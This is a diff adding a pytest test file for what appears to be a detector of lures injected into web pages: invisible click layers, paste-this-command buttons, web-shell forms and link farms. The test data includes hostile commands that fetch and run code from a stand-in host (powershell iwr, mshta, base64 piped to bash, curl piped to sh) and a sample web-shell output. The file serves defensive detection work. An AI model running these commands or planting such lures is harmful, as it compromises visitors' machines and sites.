@@ -1,0 +1,85 @@
+"""What intruders put in front of visitors, and the honest pages that look like it."""
+
+from __future__ import annotations
+
+import pytest
+
+from pagegrade.parse.html.injected_lures import find_lures
+from pagegrade.parse.html.parser import parties_of_document
+from tests.builders import make_document
+
+HEAD = "<!doctype html><title>ที่พัก</title><h1>ห้องพัก</h1><p>ห้องสะอาดใกล้ตลาด</p>"
+LAYER = "position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999"
+LOADER = "powershell -w hidden -c iwr https://x.example/a"
+
+
+def kinds(html: str, *, head: str = HEAD) -> set[str]:
+    """Kinds of what is found in a page."""
+    document = make_document(head + html)
+    return {one.kind for one in find_lures(document, parties_of_document(document))}
+
+
+@pytest.mark.parametrize(
+    ("html", "is_found"),
+    [
+        (f"<a href=https://bet.test-bet.com/ style='{LAYER};opacity:0'></a>", True),
+        (f"<div style='{LAYER}'><a href=https://bet.test-bet.com/></a></div>", True),
+        (f"<a href=/offers style='{LAYER}'></a>", False),
+        (f"<a href=https://bet.test-bet.com/ style='{LAYER}'><img src=/a.jpg alt=a></a>", False),
+        ("<a href=https://bet.test-bet.com/ style='position:absolute;inset:0;z-index:20'></a>", False),
+    ],
+)
+def test_an_invisible_link_over_the_window_takes_every_click(html: str, *, is_found: bool) -> None:
+    """One that lies over a card, or shows something, does not."""
+    assert ("click-layer" in kinds(html)) == is_found
+
+
+@pytest.mark.parametrize(
+    ("command", "is_found"),
+    [
+        (LOADER, True),
+        ("powershell.exe -NoP -enc SQBFAFgAIABpAHcAcgAgAGgA", True),
+        ("mshta https://x.example/a.hta", True),
+        ("echo aGk= | base64 -d | bash", True),
+        ("powershell -c irm https://x.example/i.ps1", False),
+        ("curl -fsSL https://x.example/i.sh | sh", False),
+    ],
+)
+def test_a_command_to_paste_hides_what_it_does(command: str, *, is_found: bool) -> None:
+    """Instructions for a program do not."""
+    handler = f"<button onclick=\"navigator.clipboard.writeText('{command}')\">1</button>"
+    script = f"<script>go.onclick=()=>navigator.clipboard.writeText('{command}')</script>"
+
+    assert ("paste-command" in kinds(handler)) == is_found
+    assert ("paste-command" in kinds(script)) == is_found
+    assert kinds(f"<p>Never paste <code>{command}</code> anywhere.</p>") == set()
+
+
+@pytest.mark.parametrize(
+    ("html", "is_found"),
+    [
+        ("<div><form><input name=cmd></form><pre>{}</pre></div>", True),
+        ("<div><form method=post><input type=file name=f></form><p>{}</p></div>", True),
+        ("<form role=search><input name=q></form><article><pre>{}</pre></article>", False),
+        ("<div><form><input name=n><input name=m><textarea></textarea></form><pre>{}</pre></div>", False),
+    ],
+)
+def test_a_form_with_the_output_of_a_command_is_a_shell(html: str, *, is_found: bool) -> None:
+    """A lesson with a search beside it is none."""
+    shown = html.format("uid=33(www-data) gid=33(www-data) groups=33(www-data)")
+
+    assert ("web-shell" in kinds(shown)) == is_found
+    assert kinds(html.format("user 33")) == set()
+
+
+def test_a_block_of_links_to_sellers_is_a_farm() -> None:
+    """Of what the page is not about; a directory of other things is none, and fewer are none."""
+    names = "abcdefghijklmnopqrst"
+    goods = [f"<a href=https://{name}{name}.org/>casino</a>" for name in names]
+    directory = [f"<a href=https://{name}{name}.org/>{name}</a>" for name in names]
+    topic = "<title>Casino</title><h1>Casino</h1><p>Casino, casino and casino.</p>"
+
+    assert "link-farm" in kinds(f"<footer>{' '.join(goods)}</footer>")
+    assert kinds(f"<div>{' '.join(directory)}</div>") == set()
+    assert kinds(f"<footer>{' '.join(goods[:10])}</footer>") == set()
+    assert kinds("".join(goods), head=topic) == set()
